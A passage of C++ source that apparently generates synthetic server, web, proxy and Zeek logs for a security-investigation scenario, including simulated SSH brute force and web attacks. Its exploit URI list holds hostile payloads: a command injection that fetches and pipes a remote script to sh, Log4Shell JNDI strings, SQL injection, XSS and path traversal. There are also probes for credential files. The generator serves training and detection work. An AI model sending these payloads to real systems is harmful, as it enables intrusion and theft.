// The scenario's text logs: auth.log and audit.log of the Linux servers, the
// public web site's access log, the proxy's access log, Zeek's conn, dns and
// http logs at the perimeter, and the case-management application's audit
// trail. Each file is one job: a day's lines are made, time-sorted, written.
// The access log and the conn log see every event of their attempt
// categories, so they count them here with the definitions of
// docs/investigate.md; failed logins go to the shared failure counts.

#include <algorithm>
#include <cstdio>
#include <filesystem>
#include <map>
#include <memory>
#include <set>

#include "scenario_internal.h"

namespace vigil::synth::scenario {

namespace {

struct Line {
  Timestamp time;
  std::string text;
};

Timestamp plus(Timestamp t, int64_t ticks) { return Timestamp{t.ticks + ticks}; }

Timestamp random_in(Rng& rng, Timestamp from, Timestamp to) {
  const int64_t span = std::max<int64_t>(1, (to.ticks - from.ticks) / 10000);
  return Timestamp{from.ticks +
                   static_cast<int64_t>(rng.next() % static_cast<uint64_t>(span)) * 10000};
}

// Daytime-weighted instant of a day: most between 07:00 and 22:00.
Timestamp daytime(Rng& rng, int day) {
  const Timestamp d = day_start(day);
  if (rng.percent(85)) return random_in(rng, plus(d, 7 * kHour), plus(d, 22 * kHour));
  return random_in(rng, d, plus(d, kDay));
}

void add_two(std::string& out, unsigned v) { add_padded(out, v, 2); }

// rsyslog's RFC 3339 time (Debian's default): 2026-10-01T08:00:05.123456+00:00
void syslog_prefix(std::string& out, Timestamp t, const std::string& host, const char* program,
                   uint32_t pid) {
  const CivilTime c = to_civil(t);
  add_padded(out, static_cast<uint64_t>(c.year), 4);
  out += '-';
  add_two(out, c.month);
  out += '-';
  add_two(out, c.day);
  out += 'T';
  add_two(out, c.hour);
  out += ':';
  add_two(out, c.minute);
  out += ':';
  add_two(out, c.second);
  out += '.';
  add_padded(out, c.ticks / 10, 6);
  out += "+00:00 ";
  out += host;
  out += ' ';
  out += program;
  out += '[';
  add_dec(out, pid);
  out += "]: ";
}

std::string unix_time(Timestamp t, int digits) {
  std::string out;
  add_dec(out, static_cast<uint64_t>(t.ticks / kSecond));
  out += '.';
  const uint64_t frac = static_cast<uint64_t>(t.ticks % kSecond);
  add_padded(out, digits == 3 ? frac / 10000 : frac / 10, digits);
  return out;
}

std::string iso_time(Timestamp t) {
  std::string out;
  append_rfc3339(out, t, 3);
  return out;
}

constexpr std::array<const char*, 12> kMonths = {"Jan", "Feb", "Mar", "Apr", "May", "Jun",
                                                 "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"};

struct Writer {
  std::FILE* file = nullptr;
  std::string buffer;
  FileResult* result = nullptr;
  bool failed = false;

  void flush() {
    if (!buffer.empty() && std::fwrite(buffer.data(), 1, buffer.size(), file) != buffer.size()) {
      failed = true;
    }
    result->bytes += buffer.size();
    buffer.clear();
  }
  void write_day(std::vector<Line>& lines) {
    std::stable_sort(lines.begin(), lines.end(),
                     [](const Line& a, const Line& b) { return a.time < b.time; });
    for (const Line& l : lines) {
      buffer += l.text;
      buffer += '\n';
      ++result->records;
      if (buffer.size() > (1u << 20)) flush();
    }
    lines.clear();
  }
};

// A visitor's address in 2001:db8::/32, in canonical text (no leading zeros).
std::string random_ipv6(Rng& rng) {
  auto group = [](std::string& out, uint32_t v) {
    char buf[8];
    int n = 0;
    do {
      buf[n++] = "0123456789abcdef"[v & 0xF];
      v >>= 4;
    } while (v != 0);
    while (n > 0) out += buf[--n];
  };
  std::string out = "2001:db8:";
  group(out, 1 + rng.below(0xfffe));
  out += ':';
  group(out, 1 + rng.below(0xfffe));
  out += "::";
  group(out, 1 + rng.below(0xfffe));
  return out;
}

// The public site's visits of a day, shared by the access log and Zeek's conn
// log so that both see the same visitors.
struct Visit {
  std::string ip;
  Timestamp start;
  uint64_t seed;
};

std::vector<Visit> visits(const World& w, int day) {
  Rng rng(derive_seed(w.seed, "visits/" + std::to_string(day)));
  std::vector<Visit> out;
  const uint32_t n = (is_weekend(day) ? 110 : 260) * w.scale;
  out.reserve(n);
  for (uint32_t i = 0; i < n; ++i) {
    Visit v;
    v.ip = random_ipv6(rng);
    v.start = daytime(rng, day);
    v.seed = rng.next();
    out.push_back(std::move(v));
  }
  return out;
}

// --- auth.log -------------------------------------------------------------------------

constexpr std::array<const char*, 4> kBruteAccounts = {"root", "admin", "ubuntu", "root"};
constexpr std::array<const char*, 30> kSprayNames = {
    "test",    "oracle",  "postgres",  "git",     "deploy", "ftpuser", "guest",  "user",
    "support", "backup",  "mysql",     "jenkins", "hadoop", "ubnt",    "pi",     "minecraft",
    "tomcat",  "ansible", "vagrant",   "docker",  "sftp",   "www",     "nagios", "zabbix",
    "elastic", "steam",   "teamspeak", "odoo",    "solr",   "dev"};

struct SshSession {
  uint32_t pid;
  uint32_t port;
};

void ssh_attack(const Attack& a, const Host& host, std::vector<Line>& lines, FileResult& result) {
  Rng rng(a.seed);
  Timestamp t = a.start;
  SshSession s{rng.between(20000, 60000), rng.between(32768, 60999)};
  uint32_t in_session = 0;
  std::vector<std::string> accounts;
  if (a.kind == AttackKind::kSshBruteForce) {
    const uint32_t n = rng.between(1, 2);
    for (uint32_t i = 0; i < n; ++i) accounts.push_back(kBruteAccounts[rng.below(4)]);
  } else {
    std::vector<std::string> names(kSprayNames.begin(), kSprayNames.end());
    for (size_t i = names.size() - 1; i > 0; --i) {
      std::swap(names[i], names[rng.below(static_cast<uint32_t>(i + 1))]);
    }
    names.resize(std::min<size_t>(a.count, names.size()));
    accounts = names;
  }
  const uint32_t attempts =
      a.kind == AttackKind::kSshBruteForce ? a.count : static_cast<uint32_t>(accounts.size());
  for (uint32_t i = 0; i < attempts; ++i) {
    const std::string& user = a.kind == AttackKind::kSshBruteForce
                                  ? accounts[rng.below(static_cast<uint32_t>(accounts.size()))]
                                  : accounts[i];
    const bool exists = user == "root";
    const uint32_t tries = a.kind == AttackKind::kSshSpray && rng.percent(25) ? 2 : 1;
    for (uint32_t k = 0; k < tries; ++k) {
      std::string line;
      if (!exists && in_session == 0) {
        syslog_prefix(line, t, host.name, "sshd", s.pid);
        line += "Invalid user " + user + " from " + a.source + " port " + std::to_string(s.port);
        lines.push_back({t, std::move(line)});
        line.clear();
      }
      if (exists && in_session == 0) {
        syslog_prefix(line, plus(t, kSecond / 10), host.name, "sshd", s.pid);
        line +=
            "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= "
            "rhost=" +
            a.source + "  user=" + user;
        lines.push_back({plus(t, kSecond / 10), std::move(line)});
        line.clear();
      }
      const Timestamp failed = plus(t, 2 * kSecond);
      syslog_prefix(line, failed, host.name, "sshd", s.pid);
      line += "Failed password for ";
      if (!exists) line += "invalid user ";
      line += user + " from " + a.source + " port " + std::to_string(s.port) + " ssh2";
      lines.push_back({failed, std::move(line)});
      result.failures[{day_of(failed), a.source}][user] += 1;
      t = plus(t, (3 + rng.below(5)) * kSecond + rng.below(1000) * 10000);
      if (++in_session >= 3 + rng.below(3)) {
        std::string close;
        syslog_prefix(close, t, host.name, "sshd", s.pid);
        close += exists ? "Connection closed by authenticating user " + user + " "
                        : "Disconnected from invalid user " + user + " ";
        close += a.source + " port " + std::to_string(s.port) + " [preauth]";
        lines.push_back({t, std::move(close)});
        s = SshSession{rng.between(20000, 60000), rng.between(32768, 60999)};
        in_session = 0;
        t = plus(t, kSecond);
      }
    }
  }
}

void cron_lines(Rng& rng, const Host& host, int day, uint32_t scale, std::vector<Line>& lines) {
  for (uint32_t h = 0; h < 24 * scale; ++h) {
    const Timestamp t =
        plus(day_start(day), static_cast<int64_t>(h) * kDay / (24 * scale) + 17 * kMinute);
    const uint32_t pid = rng.between(3000, 90000);
    std::string line;
    syslog_prefix(line, t, host.name, "CRON", pid);
    line += "pam_unix(cron:session): session opened for user root(uid=0) by root(uid=0)";
    lines.push_back({t, std::move(line)});
    line.clear();
    syslog_prefix(line, t, host.name, "CRON", pid);
    line += "(root) CMD (cd / && run-parts --report /etc/cron.hourly)";
    lines.push_back({t, std::move(line)});
    line.clear();
    const Timestamp end = plus(t, kSecond / 5);
    syslog_prefix(line, end, host.name, "CRON", pid);
    line += "pam_unix(cron:session): session closed for user root";
    lines.push_back({end, std::move(line)});
  }
}

struct AdminLogin {
  Timestamp time;
  std::string user;  // Linux account
  std::string ip;
  uint32_t pid;
  uint32_t uid;
  int minutes;
  std::string command;  // run with sudo
};

// Administrators' SSH sessions on the internal Linux servers (auth.log and audit.log agree).
std::vector<AdminLogin> admin_logins(const World& w, const Host& host, int day) {
  std::vector<AdminLogin> out;
  Rng rng(derive_seed(w.seed, "admin-ssh/" + host.name + "/" + std::to_string(day)));
  if (is_weekend(day)) return out;
  static constexpr std::array<const char*, 5> kCommands = {
      "/usr/bin/systemctl restart cms", "/usr/bin/apt-get upgrade -y",
      "/usr/bin/journalctl -u cms --since today", "/usr/bin/systemctl status nginx",
      "/usr/sbin/logrotate -f /etc/logrotate.d/cms"};
  for (int admin : {w.admin, 1}) {
    if (!rng.percent(45)) continue;
    const Person& p = w.people[static_cast<size_t>(admin)];
    AdminLogin l;
    l.time = plus(day_start(day), 9 * kHour + rng.below(8 * 3600) * kSecond);
    l.user = p.account.substr(4);  // schmidt, okafor
    l.ip = w.workstations[static_cast<size_t>(p.workstation)].ip;
    l.pid = rng.between(3000, 90000);
    l.uid = admin == w.admin ? 1001 : 1002;
    l.minutes = static_cast<int>(rng.between(3, 40));
    l.command = kCommands[rng.below(5)];
    out.push_back(std::move(l));
  }
  return out;
}

void auth_log_day(const World& w, const Host& host, int day, Rng& rng, std::vector<Line>& lines,
                  FileResult& result) {
  cron_lines(rng, host, day, w.scale, lines);
  for (const AdminLogin& l : admin_logins(w, host, day)) {
    std::string line;
    if (rng.percent(8)) {  // a mistyped password first, once
      const Timestamp f = plus(l.time, -20 * kSecond);
      syslog_prefix(line, f, host.name, "sshd", l.pid - 1);
      line += "Failed password for " + l.user + " from " + l.ip + " port " +
              std::to_string(50000 + l.pid % 9000) + " ssh2";
      lines.push_back({f, std::move(line)});
      result.failures[{day, l.ip}][l.user] += 1;
      line.clear();
    }
    syslog_prefix(line, l.time, host.name, "sshd", l.pid);
    line += "Accepted password for " + l.user + " from " + l.ip + " port " +
            std::to_string(50000 + l.pid % 9000) + " ssh2";
    lines.push_back({l.time, std::move(line)});
    line.clear();
    syslog_prefix(line, l.time, host.name, "sshd", l.pid);
    line += "pam_unix(sshd:session): session opened for user " + l.user +
            "(uid=" + std::to_string(l.uid) + ") by (uid=0)";
    lines.push_back({l.time, std::move(line)});
    line.clear();
    const Timestamp s = plus(l.time, 90 * kSecond);
    syslog_prefix(line, s, host.name, "sudo", l.pid + 7);
    line += "  " + l.user + " : TTY=pts/0 ; PWD=/home/" + l.user +
            " ; USER=root ; COMMAND=" + l.command;
    lines.push_back({s, std::move(line)});
    line.clear();
    const Timestamp e = plus(l.time, l.minutes * kMinute);
    syslog_prefix(line, e, host.name, "sshd", l.pid);
    line += "pam_unix(sshd:session): session closed for user " + l.user;
    lines.push_back({e, std::move(line)});
  }
  if (host.name == "sftp01") {
    // Partner states exchange files over SFTP.
    for (uint32_t i = 0; i < 3 * w.scale; ++i) {
      if (is_weekend(day) && !rng.percent(20)) continue;
      const Timestamp t = plus(day_start(day), 7 * kHour + rng.below(11 * 3600) * kSecond);
      const uint32_t k = rng.below(static_cast<uint32_t>(w.partner_sftp_accounts.size()));
      const std::string& user = w.partner_sftp_accounts[k];
      std::string ip = "198.51.100.";
      add_dec(ip, 60 + k);
      const uint32_t pid = rng.between(3000, 90000);
      std::string line;
      syslog_prefix(line, t, host.name, "sshd", pid);
      line += "Accepted publickey for " + user + " from " + ip + " port " +
              std::to_string(rng.between(32768, 60999)) + " ssh2: ED25519 SHA256:";
      static constexpr char kB64[] =
          "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
      Rng key(derive_seed(w.seed, user));
      for (int c = 0; c < 43; ++c) line += kB64[key.below(64)];
      lines.push_back({t, std::move(line)});
      line.clear();
      syslog_prefix(line, t, host.name, "sshd", pid);
      line += "pam_unix(sshd:session): session opened for user " + user +
              "(uid=" + std::to_string(2001 + k) + ") by (uid=0)";
      lines.push_back({t, std::move(line)});
      line.clear();
      syslog_prefix(line, plus(t, kSecond), host.name, "sshd", pid + 2);
      line += "subsystem request for sftp by user " + user;
      lines.push_back({plus(t, kSecond), std::move(line)});
      line.clear();
      const Timestamp e = plus(t, (20 + rng.below(400)) * kSecond);
      syslog_prefix(line, e, host.name, "sshd", pid);
      line += "pam_unix(sshd:session): session closed for user " + user;
      lines.push_back({e, std::move(line)});
    }
    for (const Attack& a : w.attacks) {
      if (a.day == day &&
          (a.kind == AttackKind::kSshBruteForce || a.kind == AttackKind::kSshSpray)) {
        ssh_attack(a, host, lines, result);
      }
    }
  }
}

// --- audit.log ------------------------------------------------------------------------

struct AuditSerial {
  uint64_t next = 1000;
};

std::string audit_head(const Host& host, const char* type, Timestamp t, uint64_t serial) {
  std::string out = "node=" + host.name + " type=" + type + " msg=audit(" + unix_time(t, 3) + ":";
  add_dec(out, serial);
  out += "): ";
  return out;
}

std::string hex_of(std::string_view text) {
  std::string out;
  for (char c : text) add_hex(out, static_cast<uint8_t>(c == ' ' ? '\0' : c), 2, true);
  return out;
}

void audit_log_day(const World& w, const Host& host, int day, Rng& rng, AuditSerial& serial,
                   std::vector<Line>& lines) {
  auto user_msg = [&](const char* type, Timestamp t, uint32_t pid, uint32_t auid,
                      const std::string& msg) {
    lines.push_back({t, audit_head(host, type, t, serial.next++) + "pid=" + std::to_string(pid) +
                            " uid=0 auid=" + std::to_string(auid) +
                            " ses=" + std::to_string(auid == 4294967295u ? 4294967295u : 10 + day) +
                            " subj=unconfined msg='" + msg + "'"});
  };
  // cron's sessions: inert, grow with the scale
  for (uint32_t h = 0; h < 24 * w.scale; ++h) {
    const Timestamp t =
        plus(day_start(day), static_cast<int64_t>(h) * kDay / (24 * w.scale) + 17 * kMinute);
    const uint32_t pid = rng.between(3000, 90000);
    user_msg("USER_ACCT", t, pid, 4294967295u,
             "op=PAM:accounting grantors=pam_permit acct=\"root\" exe=\"/usr/sbin/cron\" "
             "hostname=? addr=? terminal=cron res=success");
    user_msg("CRED_ACQ", t, pid, 4294967295u,
             "op=PAM:setcred grantors=pam_permit acct=\"root\" exe=\"/usr/sbin/cron\" hostname=? "
             "addr=? terminal=cron res=success");
    user_msg("USER_START", t, pid, 0,
             "op=PAM:session_open grantors=pam_loginuid,pam_env,pam_permit,pam_unix acct=\"root\" "
             "exe=\"/usr/sbin/cron\" hostname=? addr=? terminal=cron res=success");
    user_msg("USER_END", plus(t, kSecond / 5), pid, 0,
             "op=PAM:session_close grantors=pam_loginuid,pam_env,pam_permit,pam_unix acct=\"root\" "
             "exe=\"/usr/sbin/cron\" hostname=? addr=? terminal=cron res=success");
  }
  for (const AdminLogin& l : admin_logins(w, host, day)) {
    const std::string who = "acct=\"" + l.user + "\" exe=\"/usr/sbin/sshd\" hostname=" + l.ip +
                            " addr=" + l.ip + " terminal=ssh res=success";
    user_msg("USER_AUTH", l.time, l.pid, 4294967295u,
             "op=PAM:authentication grantors=pam_unix " + who);
    user_msg("USER_ACCT", l.time, l.pid, 4294967295u, "op=PAM:accounting grantors=pam_unix " + who);
    user_msg("USER_LOGIN", l.time, l.pid, l.uid,
             "op=login id=" + std::to_string(l.uid) + " exe=\"/usr/sbin/sshd\" hostname=" + l.ip +
                 " addr=" + l.ip + " terminal=/dev/pts/0 res=success");
    user_msg("USER_START", l.time, l.pid, l.uid, "op=PAM:session_open grantors=pam_unix " + who);
    // The sudo command as one kernel event: SYSCALL, EXECVE, CWD, PATH, PROCTITLE, EOE.
    const Timestamp s = plus(l.time, 90 * kSecond);
    const uint64_t id = serial.next++;
    const uint32_t pid = l.pid + 11;
    const std::string head_args = "sudo " + l.command;
    std::vector<std::string> args;
    {
      size_t start = 0;
      while (start < head_args.size()) {
        size_t end = head_args.find(' ', start);
        if (end == std::string::npos) end = head_args.size();
        args.push_back(head_args.substr(start, end - start));
        start = end + 1;
      }
    }
    lines.push_back({s, audit_head(host, "SYSCALL", s, id) +
                            "arch=c000003e syscall=59 success=yes exit=0 a0=55d0c1e0 a1=55d0c200 "
                            "a2=55d0c220 a3=0 items=2 ppid=" +
                            std::to_string(l.pid + 3) + " pid=" + std::to_string(pid) +
                            " auid=" + std::to_string(l.uid) + " uid=" + std::to_string(l.uid) +
                            " gid=" + std::to_string(l.uid) +
                            " euid=0 suid=0 fsuid=0 egid=" + std::to_string(l.uid) +
                            " sgid=" + std::to_string(l.uid) + " fsgid=" + std::to_string(l.uid) +
                            " tty=pts0 ses=" + std::to_string(10 + day) +
                            " comm=\"sudo\" exe=\"/usr/bin/sudo\" subj=unconfined key=\"exec\""});
    std::string execve = audit_head(host, "EXECVE", s, id) + "argc=" + std::to_string(args.size());
    for (size_t i = 0; i < args.size(); ++i)
      execve += " a" + std::to_string(i) + "=\"" + args[i] + "\"";
    lines.push_back({s, std::move(execve)});
    lines.push_back({s, audit_head(host, "CWD", s, id) + "cwd=\"/home/" + l.user + "\""});
    lines.push_back(
        {s, audit_head(host, "PATH", s, id) +
                "item=0 name=\"/usr/bin/sudo\" inode=1311 dev=fd:01 mode=0104755 ouid=0 ogid=0 "
                "rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0"});
    lines.push_back({s, audit_head(host, "PROCTITLE", s, id) + "proctitle=" + hex_of(head_args)});
    lines.push_back({s, audit_head(host, "EOE", s, id)});
    user_msg("USER_END", plus(l.time, l.minutes * kMinute), l.pid, l.uid,
             "op=PAM:session_close grantors=pam_unix " + who);
  }
}

// --- Web ------------------------------------------------------------------------------

struct WebRequest {
  Timestamp time;
  std::string source;
  std::string method = "GET";
  std::string uri;
  int status = 200;
  uint32_t bytes = 0;
  std::string referer;
  std::string agent;
};

constexpr std::array<const char*, 6> kBrowserAgents = {
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/130.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6_1) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/18.0 Safari/605.1.15",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:131.0) Gecko/20100101 Firefox/131.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
    "Gecko) Version/18.0 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/129.0.6668.100 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/130.0.0.0 Safari/537.36 Edg/130.0.0.0"};

constexpr std::array<const char*, 5> kScannerAgents = {
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000123)",
    "sqlmap/1.8.4#stable (https://sqlmap.org)",
    "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))",
    "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)", "gobuster/3.6"};

constexpr std::array<const char*, 24> kProbePaths = {
    "/.env",
    "/.git/config",
    "/.git/HEAD",
    "/wp-login.php",
    "/wp-admin/",
    "/phpmyadmin/",
    "/admin/",
    "/administrator/",
    "/server-status",
    "/phpinfo.php",
    "/backup.zip",
    "/backup.tar.gz",
    "/config.php.bak",
    "/.aws/credentials",
    "/actuator/health",
    "/api/v1/users",
    "/console/",
    "/cgi-bin/test.cgi",
    "/xmlrpc.php",
    "/.DS_Store",
    "/db.sql",
    "/old/",
    "/test/",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"};

constexpr std::array<const char*, 8> kExploitUris = {
    "/static/..%2f..%2f..%2f..%2fetc%2fpasswd",
    "/en/cases/?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--",
    "/en/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
    "/cgi-bin/status?cmd=x%3Bwget%20http://203.0.113.9/x.sh%20-O-%7Csh",
    "/en/news/?id=1%20AND%20sleep(5)",
    "/?page=../../../../windows/win.ini",
    "/api/login?user=admin%27%20or%20%271%27=%271",
    "/en/?x=${jndi:ldap://203.0.113.9:1389/Exploit}"};

std::vector<std::string> site_pages(const World& w) {
  std::vector<std::string> pages = {"/",
                                    "/en/",
                                    "/fr/",
                                    "/en/cases/",
                                    "/fr/affaires/",
                                    "/en/news/",
                                    "/en/contact",
                                    "/en/careers",
                                    "/en/about",
                                    "/fr/a-propos",
                                    "/en/victims-and-witnesses",
                                    "/en/hearings/calendar"};
  for (const Case& c : w.cases) {
    pages.push_back("/en/cases/" + c.id);
    pages.push_back("/fr/affaires/" + c.id);
    pages.push_back("/en/cases/" + c.id + "/judgments/decision_001.pdf");
  }
  for (const char* term : {"hearing+schedule", "witness+protection", "victims+participation",
                           "detention", "appeal+judgment", "reparations"}) {
    pages.push_back(std::string("/en/search?q=") + term);
  }
  return pages;
}

void web_day(const World& w, int day, Rng& rng, std::vector<WebRequest>& out) {
  const std::vector<std::string> pages = site_pages(w);
  static constexpr std::array<const char*, 4> kStatic = {"/static/css/site.css?v=12",
                                                         "/static/js/site.js?v=12",
                                                         "/static/img/logo.svg", "/favicon.ico"};
  for (const Visit& visit : visits(w, day)) {
    Rng vr(visit.seed);
    const std::string& ip = visit.ip;
    const char* agent = kBrowserAgents[vr.below(6)];
    Timestamp t = visit.start;
    const uint32_t views = vr.between(2, 9);
    bool missed = false;
    std::string referer = vr.percent(40) ? "https://www.google.com/" : "";
    for (uint32_t v = 0; v < views; ++v) {
      WebRequest r;
      r.time = t;
      r.source = ip;
      r.agent = agent;
      r.referer = referer;
      if (!missed && vr.percent(2)) {
        r.uri = "/en/news/2025/archived-item-" + std::to_string(vr.below(300));
        r.status = 404;
        r.bytes = 1832;
        missed = true;
      } else {
        r.uri = pages[vr.below(static_cast<uint32_t>(pages.size()))];
        r.status = vr.percent(8) ? 304 : 200;
        r.bytes = r.status == 304 ? 0 : vr.between(4000, r.uri.ends_with(".pdf") ? 900000 : 60000);
      }
      referer = "https://" + w.public_site + r.uri;
      out.push_back(r);
      if (v == 0) {
        for (const char* asset : kStatic) {
          WebRequest a = r;
          a.time = plus(t, vr.between(50, 600) * 10000);
          a.uri = asset;
          a.status = vr.percent(30) ? 304 : 200;
          a.bytes = a.status == 304 ? 0 : vr.between(900, 48000);
          out.push_back(std::move(a));
        }
      }
      t = plus(t, (5 + vr.below(120)) * kSecond + vr.below(1000) * 10000);
    }
  }
  // The uptime monitor and a search engine's crawler.
  for (int m = 0; m < 24 * 12; ++m) {
    WebRequest r;
    r.time = plus(day_start(day), m * 5 * kMinute + 7 * kSecond);
    r.source = "192.0.2.10";
    r.uri = "/health";
    r.bytes = 2;
    r.agent = "court-uptime-monitor/2.1";
    out.push_back(std::move(r));
  }
  for (uint32_t c = 0; c < 80 * w.scale; ++c) {
    WebRequest r;
    r.time = random_in(rng, day_start(day), day_start(day + 1));
    r.source = "192.0.2.200";
    r.uri = pages[rng.below(static_cast<uint32_t>(pages.size()))];
    r.bytes = rng.between(4000, 60000);
    r.agent = "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)";
    out.push_back(std::move(r));
  }
}

void web_attacks(const World& w, int day, std::vector<WebRequest>& out) {
  const std::vector<std::string> pages = site_pages(w);
  for (const Attack& a : w.attacks) {
    if (a.day != day) continue;
    Rng rng(a.seed);
    Timestamp t = a.start;
    switch (a.kind) {
      case AttackKind::kWebScanner: {
        const char* agent = kScannerAgents[rng.below(5)];
        for (uint32_t i = 0; i < a.count; ++i) {
          WebRequest r;
          r.time = t;
          r.source = a.source;
          r.agent = agent;
          if (rng.percent(10)) {
            r.uri = kExploitUris[rng.below(8)];
            r.status = 400;
          } else if (rng.percent(20)) {
            r.uri = pages[rng.below(static_cast<uint32_t>(pages.size()))];
          } else {
            r.uri = kProbePaths[rng.below(24)];
            r.status = 404;
          }
          r.bytes = r.status == 200 ? rng.between(4000, 60000) : 1832;
          out.push_back(std::move(r));
          t = plus(t, rng.between(25, 150) * kSecond / 100);
        }
        break;
      }
      case AttackKind::kWeb404Sweep:
        for (uint32_t i = 0; i < a.count; ++i) {
          WebRequest r;
          r.time = t;
          r.source = a.source;
          r.agent = kBrowserAgents[2];
          r.uri = std::string(kProbePaths[rng.below(24)]);
          if (rng.percent(50)) r.uri += std::to_string(rng.below(100));
          r.status = 404;
          r.bytes = 1832;
          out.push_back(std::move(r));
          t = plus(t, rng.between(1, 4) * kSecond);
        }
        break;
      case AttackKind::kWebExploit:
        for (uint32_t i = 0; i < a.count; ++i) {
          WebRequest r;
          r.time = t;
          r.source = a.source;
          const uint32_t which = rng.below(9);
          if (which == 8) {
            r.uri = "/";
            r.agent = "${jndi:ldap://203.0.113.9:1389/a}";
          } else {
            r.uri = kExploitUris[which];
            r.agent = "python-requests/2.31.0";
          }
          r.method = rng.percent(20) ? "POST" : "GET";
          r.status = rng.percent(50) ? 403 : 400;
          r.bytes = 310;
          out.push_back(std::move(r));
          t = plus(t, rng.between(1, 30) * kSecond);
        }
        break;
      case AttackKind::kDenialOfService: {
        // Whole calendar minutes of 320 to 700 requests each.
        const Timestamp minute{a.start.ticks - a.start.ticks % kMinute};
        for (uint32_t m = 0; m < a.count; ++m) {
          const uint32_t n = rng.between(320, 700);
          for (uint32_t i = 0; i < n; ++i) {
            WebRequest r;
            r.time = plus(minute, m * kMinute + static_cast<int64_t>(i) * kMinute / n);
            r.source = a.source;
            r.uri = rng.percent(70) ? "/" : "/en/";
            r.agent = kBrowserAgents[0];
            r.status = rng.percent(40) ? 503 : 200;
            r.bytes = r.status == 503 ? 197 : 31844;
            out.push_back(std::move(r));
          }
        }
        break;
      }
      default: break;
    }
  }
}

// Applies docs/investigate.md's web categories to one day's requests (every
// request the site received that day is in `requests`).
void count_web(const std::vector<WebRequest>& requests, int day, CategoryCounts& counts) {
  std::map<std::pair<std::string, int64_t>, uint32_t> per_minute;
  std::map<std::string, uint32_t> not_found;
  for (const WebRequest& r : requests) {
    ++per_minute[{r.source, r.time.ticks / kMinute}];
    if (r.status == 404) ++not_found[r.source];
  }
  for (const WebRequest& r : requests) {
    const char* category = nullptr;
    if (has_exploit_payload(r.uri, r.agent)) {
      category = "exploitation";
    } else if (per_minute[{r.source, r.time.ticks / kMinute}] >= 300) {
      category = "denial_of_service";
    } else if (is_scanner_agent(r.agent) || (r.status == 404 && not_found[r.source] >= 20)) {
      category = "scanning";
    }
    if (category != nullptr) ++counts[{day, category}][r.source];
  }
}

std::string access_line(const World& w, const WebRequest& r) {
  (void)w;
  const CivilTime c = to_civil(r.time);
  std::string out = r.source + " - - [";
  add_two(out, c.day);
  out += '/';
  out += kMonths[c.month - 1];
  out += '/';
  add_padded(out, static_cast<uint64_t>(c.year), 4);
  out += ':';
  add_two(out, c.hour);
  out += ':';
  add_two(out, c.minute);
  out += ':';
  add_two(out, c.second);
  out += " +0000] \"" + r.method + " " + r.uri + " HTTP/1.1\" " + std::to_string(r.status) + " " +
         std::to_string(r.bytes) + " \"" + (r.referer.empty() ? "-" : r.referer) + "\" \"";
  for (char ch : r.agent) {
    if (ch == '"' || ch == '\\') out += '\\';
    out += ch;
  }
  out += '"';
  return out;
}

// --- Proxy and Zeek ----------------------------------------------------------------------

struct Site {
  const char* host;
  const char* ip;
};
constexpr std::array<Site, 12> kSites = {{
    {"login.microsoftonline.com", "2001:db8:ff01::10"},
    {"outlook.office365.com", "2001:db8:ff01::20"},
    {"teams.microsoft.com", "2001:db8:ff01::30"},
    {"www.google.com", "2001:db8:ff02::10"},
    {"eur-lex.europa.eu", "2001:db8:ff03::10"},
    {"www.un.org", "2001:db8:ff04::10"},
    {"www.echr.coe.int", "2001:db8:ff05::10"},
    {"www.lemonde.fr", "2001:db8:ff06::10"},
    {"www.bbc.co.uk", "2001:db8:ff07::10"},
    {"update.googleapis.com", "2001:db8:ff02::20"},
    {"www.legifrance.gouv.fr", "2001:db8:ff08::10"},
    {"www.deepl.com", "2001:db8:ff09::10"},
}};
constexpr std::array<Site, 3> kPlainSites = {{
    {"ctldl.windowsupdate.com", "2001:db8:ff01::40"},
    {"ocsp.digicert.com", "2001:db8:ff0a::10"},
    {"crl.globalsign.com", "2001:db8:ff0b::10"},
}};

std::string squid_line(Timestamp t, uint32_t elapsed_ms, const std::string& client,
                       const char* action, int status, uint64_t bytes, const char* method,
                       const std::string& url, const std::string& user, const std::string& peer,
                       const char* type) {
  std::string out = unix_time(t, 3);
  std::string ms = std::to_string(elapsed_ms);
  out += ' ';
  for (size_t i = ms.size(); i < 6; ++i) out += ' ';
  out += ms + " " + client + " " + action + "/" + std::to_string(status) + " " +
         std::to_string(bytes) + " " + method + " " + url + " " + (user.empty() ? "-" : user) +
         " HIER_DIRECT/" + peer + " " + type;
  return out;
}

void proxy_day(const World& w, int day, Rng& rng, std::vector<Line>& lines) {
  for (size_t p = 0; p < w.people.size(); ++p) {
    const Person& person = w.people[p];
    if (is_weekend(day)) continue;
    Rng wd(derive_seed(w.seed, "workday/" + std::to_string(p) + "/" + std::to_string(day)));
    if (wd.percent(4)) continue;
    const Timestamp arrive =
        plus(day_start(day), 7 * kHour + 45 * kMinute + wd.below(90 * 60) * kSecond);
    const Timestamp leave =
        plus(day_start(day), 16 * kHour + 30 * kMinute + wd.below(150 * 60) * kSecond);
    const std::string& ip = w.workstations[static_cast<size_t>(person.workstation)].ip;
    for (uint32_t i = 0; i < 30 * w.scale; ++i) {
      const Timestamp t = random_in(rng, arrive, leave);
      if (rng.percent(85)) {
